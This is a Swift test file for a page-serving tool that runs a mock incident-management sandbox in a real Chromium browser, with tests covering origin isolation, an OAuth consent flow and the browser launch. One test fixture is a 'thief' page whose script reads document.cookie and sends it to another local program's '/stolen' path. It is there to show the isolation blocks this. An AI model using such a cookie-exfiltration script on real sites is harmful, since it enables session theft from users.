import Chromium
import Foundation
import Notation
import TestSupport
import Testing

/// Pages of others in a real browser, beside another program of this machine that has set a cookie.
struct PageOriginTests {
    /// A local program with a cookie.
    private static func otherProgram() -> RawInstance {
        RawInstance { _ in RawInstance.answer(type: "text/html", ["Set-Cookie: session=of-the-user"], body: "signed in")
        }
    }

    private static func paths(_ program: RawInstance) -> [String] {
        program.requests.map { String($0.split(separator: " ").dropFirst().first ?? "") }
            .filter { $0 != "/favicon.ico" }
    }

    /// An instance whose page reads cookies and sends them away.
    private static func thief(_ other: RawInstance) -> RawInstance {
        let page = """
            <!doctype html><title>x</title><style>body { color: rgb(1, 2, 3) }</style><body>
            <a href="http://HOST/next.do">next</a><script src="/own.js"></script>
            <script>
            const away = '\(other.address)/stolen?' + document.cookie;
            var tried = Promise.all([
              fetch(away, {mode: 'no-cors'}).then(() => 'sent', () => 'blocked'),
              new Promise(done => {
                const image = new Image(); image.onload = image.onerror = () => done('tried'); image.src = away }),
              fetch('/own.json').then(answer => answer.text()),
            ]).then(how => [document.cookie.includes('of-the-user'), how[0], how[2], document.title,
              getComputedStyle(document.body).color, location.hostname,
              document.links[0].host == location.host]);
            </script>
            """
        return RawInstance { request in
            switch request.split(separator: " ").dropFirst().first {
            case "/own.js": RawInstance.answer(type: "text/javascript", body: "document.title = 'own script'")
            case "/own.json": RawInstance.answer(body: "{}")
            default:
                // A link with the instance's own address.
                RawInstance.answer(
                    type: "text/html",
                    body: page.replacing(
                        "HOST",
                        with: request.split(separator: "\r\n").first { $0.hasPrefix("Host: ") }?.dropFirst(6) ?? ""))
            }
        }
    }

    /// What a page sees and sends, and what its server said.
    private struct Visit {
        let seen: JSON
        let paths: [String]
        let said: String
    }

    @Test func servedPageReadsNoCookieOfOtherPrograms() async throws {
        let other = Self.otherProgram(), workspace = try Workspace()
        let instance = Self.thief(other)
        let servers = [
            [], ["--tape", "kept", "serve", "record", "--to", instance.address], ["serve", "replay", "kept"],
        ]
        let visits = try await ChromiumSession.with(
            try ChromiumProgram.find(path: nil), environment: ["PATH": "/usr/bin:/bin"], timeout: .seconds(600)
        ) { browser in
            try await browser.navigate(to: other.address + "/")
            var visits: [Visit] = []
            for arguments in servers {
                let served = arguments.isEmpty ? nil : try await BrowserSession(serving: workspace, arguments)
                let count = Self.paths(other).count
                try await browser.navigate(to: (served?.address ?? instance.address) + "/page.do")
                let seen = try await browser.evaluate("tried")
                let said = await served?.end().errors ?? ""
                visits.append(Visit(seen: seen, paths: Array(Self.paths(other).dropFirst(count)), said: said))
            }
            return visits
        }
        // At the address of all programs, it succeeds.
        #expect(visits[0].seen[0] == true && visits[0].seen[1] == "sent" && visits[0].seen[5] == "127.0.0.1")
        expectEqual(visits[0].paths, ["/stolen?session=of-the-user", "/stolen?session=of-the-user"], "\(visits)")
        for visit in visits.dropFirst() {
            let host = visit.seen[5]?.scalarText ?? ""
            expectEqual(
                visit.seen, [false, "blocked", "{}", "own script", "rgb(1, 2, 3)", .string(host), true], "\(visit)")
            #expect(host.hasSuffix(".localhost") && host.count == 42)
            expectEqual(visit.paths, [])
            #expect(visit.said.contains("http://\(host):"), "\(visit)")
        }
        // Programs still get the recorded bytes at the usual address.
        let replay = try await BrowserSession(serving: workspace, ["serve", "replay", "kept"])
        let got = try await workspace.runOther("curl", "-sS", "-D", "-", replay.address + "/own.json")
        #expect(got.output.hasSuffix("\r\n\r\n{}") && !got.output.contains("Content-Security-Policy"), "\(got)")
        _ = await replay.end()
    }

    /// A sign-in and a form of the sandbox, and its consent, which ends at an application with another address.
    @Test func sandboxIsUsedInBrowser() async throws {
        let workspace = try Workspace()
        let sandbox = try await ServedProgram(workspace, "sandbox")
        let address = sandbox.address, application = Self.otherProgram()
        let challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw_cM"
        let consent =
            "/oauth_auth.do?response_type=code&client_id=snowdeck-public&state=s1&code_challenge_method=S256"
            + "&code_challenge=\(challenge)&redirect_uri=\(application.address)/callback"
        let seen = try await ChromiumSession.with(
            try ChromiumProgram.find(path: nil), environment: ["PATH": "/usr/bin:/bin"], timeout: .seconds(600)
        ) { browser in
            try await browser.navigate(to: address + "/login.do")
            try await browser.follow(
                """
                (() => {
                  const form = document.forms[0];
                  form.elements['user_name'].value = 'admin';
                  form.elements['user_password'].value = 'admin';
                  form.querySelector('button').click();
                })()
                """)
            try await browser.follow("location.href = '/incident.do?sysparm_query=number=INC0010002'")
            let seen = try await browser.evaluate("[document.title, location.hostname]")
            try await browser.follow("location.href = '\(consent)'")
            try await browser.follow("document.querySelector('button[value=allow]').click()")
            while Self.paths(application).isEmpty { try await Task.sleep(for: .milliseconds(20)) }
            return seen
        }
        let callback = Self.paths(application)
        #expect(callback.count == 1 && callback[0].hasPrefix("/callback?") && callback[0].contains("state=s1"))
        expectEqual(seen[0], "Incident INC0010002 | Sandbox", "\(seen)")
        let host = seen[1]?.scalarText ?? ""
        let ended = await sandbox.end()
        #expect(
            ended.errors.hasSuffix("\nBrowsers are shown pages at \(address.replacing("127.0.0.1", with: host)).\n"))
    }

    /// The address of `page browse` is in a private file, which a real browser follows.
    @Test func browserIsOpenedWithPrivateFile() async throws {
        let workspace = try Workspace()
        try workspace.write("printf '%s\\n' \"$@\" >arguments.new; mv arguments.new arguments", to: "browser.sh")
        let live = try await BrowserSession(
            workspace, ["page", "browse", "incident_list.do?sysparm_query=number=INC0010002"],
            variables: ["BROWSER": "sh browser.sh %s"])
        while !FileManager.default.fileExists(atPath: workspace.path("arguments")) {
            try await Task.sleep(for: .milliseconds(5))
        }
        let argument = try workspace.text(of: "arguments").split(separator: "\n").joined()
        let folder = workspace.home + "/state/snowdeck/snowdeck-pages"
        #expect(argument.hasPrefix("file://\(folder)/") && !argument.contains("localhost"), "\(argument)")
        let title = try await live.browse(workspace) { browser in
            try await browser.navigate(to: argument)
            for _ in 0..<6000 {
                let seen = try await browser.evaluate("[document.title, location.pathname]")
                // The page has come, and its head has been read.
                if seen[1] == "/incident_list.do", seen[0] != "" { return seen[0] }
                try await Task.sleep(for: .milliseconds(50))
            }
            return nil
        }
        expectEqual(title, "Incidents | Sandbox")
        let ended = await live.end()
        #expect(ended.status == 0 && ended.errors.contains("Opened in the browser"), "\(ended)")
        try expectEqual(FileManager.default.contentsOfDirectory(atPath: folder), [])
    }
}
